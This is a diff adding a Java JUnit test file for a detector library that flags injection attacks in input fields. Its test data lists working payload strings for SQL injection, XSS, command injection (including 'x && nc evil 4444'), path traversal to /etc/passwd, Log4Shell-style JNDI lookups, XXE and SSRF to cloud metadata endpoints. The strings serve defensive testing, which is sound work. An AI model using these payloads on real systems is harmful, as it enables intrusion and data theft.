@@ -1,0 +1,89 @@
+package dev.fnguard.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.fnguard.detect.internal.Inspector;
+import dev.fnguard.detect.internal.Inspector.FieldKind;
+import dev.fnguard.detect.internal.Work;
+import java.util.EnumSet;
+import java.util.Optional;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.junit.jupiter.api.Test;
+
+/** Each detector on real attack strings and on benign look-alikes, and the bound on work. */
+class DetectorsTest {
+
+    private static final Inspector ALL = new Inspector(EnumSet.allOf(Detector.class));
+
+    private static Optional<Detector> inspect(String s) {
+        return ALL.inspect(s, FieldKind.VALUE, new Work());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"O'Brien", "select a size", "Rock 'n' roll", "Tom & Jerry; Mickey",
+        "Send it to 10 Downing St.", "I'd like 2 or 3 of them", "price <= 5 and >= 3", "Wait... what?",
+        "email me at a.b@example.com", "50% off", "C# and C++ are languages", "It's {big} news"})
+    void passesBenignLookAlikes(String s) {
+        assertEquals(Optional.empty(), inspect(s), s);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+        "1' OR '1'='1|SQL", "admin'--|SQL", "1 UNION ALL SELECT password FROM users|SQL",
+        "1; DROP TABLE users|SQL", "%2527%2520OR%25201%253D1--|SQL",
+        "<script>alert(1)</script>|XSS", "<svg/onload=alert(1)>|XSS", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>|XSS",
+        "&lt;img src=x onerror=alert(1)&gt;|XSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>|XSS",
+        "; cat /etc/passwd|COMMAND", "$(whoami)|COMMAND", "`id`|COMMAND", "x && nc evil 4444|COMMAND",
+        "../../etc/passwd|PATH", "..%252f..%252fetc%252fpasswd|PATH", "..\\\\..\\\\windows\\\\win.ini|PATH",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd|PATH",
+        "{\"$where\":\"sleep(1000)\"}|NOSQL",
+        "x%0d%0aSet-Cookie: a=b|CRLF", "{{7*7}}|TEMPLATE", "${jndi:ldap://evil/a}|TEMPLATE", "#{7*7}|TEMPLATE",
+        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>|XXE"})
+    void firesOnAttack(String s, Detector expected) {
+        assertTrue(Inspector.fires(expected, s, FieldKind.VALUE, new Work()), s);
+        assertTrue(inspect(s).isPresent(), s);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://2130706433/",
+        "http://0x7f.0.0.1/", "http://0177.0.0.1/", "http://metadata.google.internal/", "file:///etc/passwd",
+        "gopher://127.0.0.1:6379/_", "http://10.0.0.5/admin", "http://[::ffff:127.0.0.1]/", "http://[fd00:ec2::254]/",
+        "http://user@127.0.0.1:8080/", "http://localhost./"})
+    void ssrfFiresOnInternalTargets(String url) {
+        assertTrue(Inspector.fires(Detector.SSRF, url, FieldKind.URL, new Work()), url);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"https://example.com/hook", "http://93.184.216.34/", "https://api.github.com/repos"})
+    void ssrfPassesPublicUrls(String url) {
+        assertFalse(Inspector.fires(Detector.SSRF, url, FieldKind.URL, new Work()), url);
+    }
+
+    @Test
+    void nosqlOperatorAsKeyFires() {
+        assertTrue(Inspector.fires(Detector.NOSQL, "$gt", FieldKind.KEY, new Work()));
+        assertFalse(Inspector.fires(Detector.NOSQL, "price", FieldKind.KEY, new Work()));
+    }
+
+    @Test
+    void absolutePathFiresOnlyWhereRelativeNameDeclared() {
+        FieldKind relative = new FieldKind(false, false, true);
+        assertTrue(Inspector.fires(Detector.PATH, "/srv/data/report.pdf", relative, new Work()));
+        assertFalse(Inspector.fires(Detector.PATH, "reports/2024/q1.pdf", relative, new Work()));
+    }
+
+    /** Pathological inputs: the steps stay within a small constant times the length. */
+    @ParameterizedTest
+    @ValueSource(strings = {"'", "\"", "%25", "&#x26;", "<", "..", "$(", "{{", "\\u0027", "-- ", "or 1=", "a"})
+    void workIsLinearInLengthOnPathologicalInput(String unit) {
+        int target = 1 << 20;
+        String s = unit.repeat(target / unit.length());
+        Work work = new Work();
+        ALL.inspect(s, FieldKind.VALUE, work);
+        assertTrue(work.steps() <= 40L * s.length(), unit + ": " + work.steps() + " steps for " + s.length() + " chars");
+    }
+}
